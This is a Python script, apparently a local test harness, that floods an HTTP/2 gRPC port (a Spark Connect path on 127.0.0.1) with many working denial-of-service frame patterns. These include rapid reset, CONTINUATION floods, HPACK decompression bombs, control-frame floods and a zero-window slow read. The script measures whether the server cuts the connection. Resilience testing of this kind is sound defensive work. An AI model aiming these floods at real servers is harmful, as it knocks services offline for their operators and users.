"""An attacker: floods a port with one kind of frames, as fast as it can, and connects again
whenever it is cut. `python attacker.py PORT KIND SECONDS` prints a JSON object of what it saw.

What is sent on a connection is built before the time runs: an opening and, again and again, the same
flood. Streams are numbered anew on each connection, so a flood with streams in it is sent once.
"""

import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PATH = "/spark.connect.SparkConnectService/ExecutePlan"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
STREAMS = 60_000  # on one connection; it is cut long before
CHUNK = 1 << 17


def settings(**values):
    codes = {"initial_window": 4, "header_table": 1}
    return SettingsFrame(0, settings={codes[k]: v for k, v in values.items()}).serialize()


OPENING = PREFACE + settings()


def headers(stream, block, *flags):
    frame = HeadersFrame(stream, data=block)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def per_stream(after, *, request=REQUEST, flags=("END_HEADERS",)):
    """A request on each of many streams, each followed by `after(stream)`."""
    encoder = hpack.Encoder()
    return b"".join(
        headers(stream, encoder.encode(request), *flags) + after(stream)
        for stream in range(1, 2 * STREAMS, 2)
    )


def repeated(frame):
    return frame * (CHUNK // len(frame) + 1)


def one_call(*, block=None, flags=("END_HEADERS",)):
    return headers(1, block or hpack.Encoder().encode(REQUEST), *flags)


BOMB = ("x", "v" * 3900)  # fits into the dynamic table, where a byte refers to it


def bomb(streams):
    """Header blocks of a few KB, each of which unpacks to 4000 times the field."""
    encoder = hpack.Encoder()
    kept_out = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in REQUEST]
    first = encoder.encode([*kept_out, BOMB])
    again = encoder.encode(kept_out)
    reference = encoder.encode([BOMB])
    assert len(reference) == 1
    frames = [headers(1, first + reference * 4000, "END_HEADERS")]
    for stream in range(3, 2 * streams, 2):
        frames.append(headers(stream, again + reference * 4000, "END_HEADERS"))
    return b"".join(frames)


def tiny_windows():
    """An answer of the bridge's own that may leave byte by byte."""
    get = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "localhost")]
    grow = b"".join(
        WindowUpdateFrame(stream, window_increment=1).serialize() for stream in range(1, 201, 2)
    )
    encoder = hpack.Encoder()
    calls = b"".join(
        headers(stream, encoder.encode(get), "END_HEADERS", "END_STREAM")
        for stream in range(1, 201, 2)
    )
    return calls, repeated(grow)


def malformed(stream):
    return WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)


def reset(stream):
    return RstStreamFrame(stream, error_code=8).serialize()


def kinds():
    """By name: (opening, flood, whether the flood may be repeated)."""
    unfinished = one_call(flags=())
    windows_calls, windows_flood = tiny_windows()
    length = [*REQUEST, ("content-length", "1")]
    return {
        "rapid_reset": (OPENING, per_stream(reset), False),
        "made_reset": (OPENING, per_stream(malformed), False),
        "made_reset_by_length": (
            OPENING,
            per_stream(lambda stream: DataFrame(stream, b"ab").serialize(), request=length),
            False,
        ),
        "continuation": (
            OPENING + unfinished,
            repeated(ContinuationFrame(1).serialize()),
            True,
        ),
        "continuation_of_fields": (
            OPENING + unfinished,
            repeated(ContinuationFrame(1, data=b"\0\1x\1y" * 2000).serialize()),
            True,
        ),
        "settings": (OPENING, repeated(settings(header_table=4096)), True),
        "ping": (OPENING, repeated(PingFrame(0, b"12345678").serialize()), True),
        "empty_data": (OPENING + one_call(), repeated(DataFrame(1).serialize()), True),
        "padding": (
            OPENING + one_call(),
            repeated(DataFrame(1, flags=["PADDED"], pad_length=1).serialize()),
            True,
        ),
        "bomb": (OPENING, bomb(streams=1), False),
        "bombs": (OPENING, bomb(streams=500), False),
        "priority": (
            OPENING,
            repeated(PriorityFrame(3, depends_on=1, stream_weight=9).serialize()),
            True,
        ),
        "window_update": (
            OPENING,
            repeated(WindowUpdateFrame(0, window_increment=1).serialize()),
            True,
        ),
        "tiny_windows": (
            PREFACE + settings(initial_window=0) + windows_calls,
            windows_flood,
            True,
        ),
    }


class Result:
    def __init__(self):
        self.connections = 0
        self.cut = 0  # of them, with ENHANCE_YOUR_CALM
        self.bytes = 0
        self.longest_s = 0.0  # from the first byte of the flood to the end of the connection


def goaway_code(tail):
    """The error code of the last GOAWAY frame in the bytes; None where there is none."""
    at = tail.rfind(b"\x07\x00\x00\x00\x00\x00")
    return int.from_bytes(tail[at + 10 : at + 14], "big") if at >= 3 else None


def attack_once(port, opening, flood, again, deadline, result):
    """One connection, until it is cut or time is up."""
    tail = b""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(opening)
        connection.setblocking(False)
        result.connections += 1
        started = time.monotonic()
        left = memoryview(flood)
        while time.monotonic() < deadline:
            readable, writable, _ = select.select([connection], [connection] if left else [], [], 1)
            try:
                if readable:
                    data = connection.recv(1 << 18)
                    if not data:
                        break
                    tail = (tail + data)[-4096:]
                if writable:
                    sent = connection.send(left[:CHUNK])
                    result.bytes += sent
                    left = left[sent:]
                    if not left and again:
                        left = memoryview(flood)
            except BlockingIOError:
                continue
            except (ConnectionResetError, BrokenPipeError):
                break
        else:
            return
        result.longest_s = max(result.longest_s, time.monotonic() - started)
        result.cut += goaway_code(tail) == 11


def attack(port, kind, seconds):
    opening, flood, again = kinds()[kind]
    result = Result()
    print("ready", flush=True)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        attack_once(port, opening, flood, again, deadline, result)
    return result


if __name__ == "__main__":
    port, kind, seconds = sys.argv[1:]
    print(json.dumps(vars(attack(int(port), kind, float(seconds)))), flush=True)
